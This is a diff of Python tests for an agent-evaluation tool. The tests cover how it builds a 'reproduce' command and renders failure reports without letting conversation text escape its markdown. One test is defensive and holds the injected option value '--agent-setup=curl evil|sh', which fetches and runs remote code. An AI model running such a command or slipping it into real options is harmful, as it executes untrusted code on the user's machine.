@@ -13,6 +13,8 @@ from agent_eval.report import escape
 from agent_eval.report.comment import comment_markdown
 from agent_eval.report.markdown import LONGEST_PATH, reproduce
 from agent_eval.report.sections import Links
+from agent_eval.report.summary import summary_markdown
+from agent_eval.results.conversation import ConversationReport, StepReport, TurnReport
 from agent_eval.results.recording import RunError
 from agent_eval.results.report import CaseReport
 
@@ -93,10 +95,63 @@ def test_comment__a_path_of_ordinary_length_is_a_link() -> None:
     ],
 )  # fmt: skip
 def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else(file: str, command: str) -> None:
-    told = reproduce([failing(file=file)])
+    told = reproduce([failing(file=file)]).command
 
     assert told == command
     assert not any(word.startswith("-") for word in shlex.split(told)[2:])
+
+
+def test_reproduce__runs_all_cases_or_says_how_many_it_leaves_out() -> None:
+    several = [failing(eval_id=f"c{n}", file=f"evals/{n % 3}.test.json") for n in range(9)]
+    told = reproduce(several)
+    assert told.command == (
+        "agent-eval run evals/0.test.json:c0,c3,c6 evals/1.test.json:c1,c4,c7 evals/2.test.json:c2,c5,c8"
+    )
+    assert told.left_out == 0
+    odd = reproduce([*several, failing(file="a\nb.json"), *(failing(file=f"evals/x{n}.json") for n in range(30))])
+    assert odd.left_out == 14, "one that can't be named, and what is beyond twenty files"
+    assert (
+        "(without 14 more cases, which the command can't name)"
+        in rendered(
+            comment_markdown(report("failed", [*several, *(failing(file=f"evals/x{n}.json") for n in range(31))]))
+        ).text
+    )
+
+
+def test_reproduce__a_whole_file_where_naming_its_cases_says_no_more() -> None:
+    assert reproduce([failing(eval_id="evals/old.test.json", file="evals/old.test.json")]).command == (
+        "agent-eval run evals/old.test.json"
+    )
+    assert reproduce([failing(eval_id=f"c{n}") for n in range(21)]).command == f"agent-eval run {failing().file}"
+
+
+def test_reproduce__repeats_what_the_run_itself_was_told() -> None:
+    options = {
+        "agent": "agents/my shop",
+        "config": "ci/eval.json",
+        "agent-python": ".venv/bin/python",
+        "agent-setup": "x",
+    }
+    assert reproduce([failing()], options).command == (
+        "agent-eval run --agent 'agents/my shop' --config ci/eval.json --agent-python .venv/bin/python "
+        f"{failing().file}:door"
+    )
+
+
+@pytest.mark.parametrize("value", ["--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, ""])
+def test_reproduce__a_strangers_options_do_nothing_else(value: str) -> None:
+    told = reproduce([failing()], {"agent": value, "config": value, "agent-python": value})
+    assert told.command == f"agent-eval run {failing().file}:door"
+
+
+def test_comment__the_path_of_an_old_file_is_said_once() -> None:
+    """The id of its only case is the path, too."""
+    old = failing(
+        eval_id="evals/old.test.json", file="evals/old.test.json", case_id="evals/old.test.json:evals/old.test.json"
+    )
+    page = rendered(comment_markdown(report("failed", [old]), links=LINKS))
+    assert "old.test.json:evals" not in page.text
+    assert "❌ old.test.json" in page.text
 
 
 @pytest.mark.parametrize(
@@ -116,3 +171,23 @@ def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else(file: str
 def test_links__an_address_of_another_repository_is_no_link(url: str, allowed: bool) -> None:
     assert LINKS.own(url) == (url if allowed else None)
     assert Links(server_url=SERVER).own(url) is None, "of an unknown repository there is none"
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["- x", "# x", "> x", "1. x", "| a | b |\n|--|--|", "```", "~~~", "===", "<!--", "</details>", "    x", "\\", ""],
+)
+def test_comment__no_text_gets_out_of_a_conversation(line: str) -> None:
+    evil = f"{line}\n{line}\n\n{PAYLOAD}\n{line}"
+    said = TurnReport(
+        turn=0,
+        user=evil,
+        steps=[StepReport(agent=evil, text=evil), StepReport(call=evil, responses=[evil, evil])],
+        answer=evil,
+        expected_calls=[evil],
+        expected_answer=f"{evil}\nand more",
+    )
+    door = failing(conversation=ConversationReport(run=0, turns=[said, said]))
+    for text in (comment_markdown(report("failed", [door]), links=LINKS), summary_markdown(report("failed", [door]))):
+        page = nothing_of_theirs(text, OURS)
+        assert page.text.count("closes") == 2 * 9
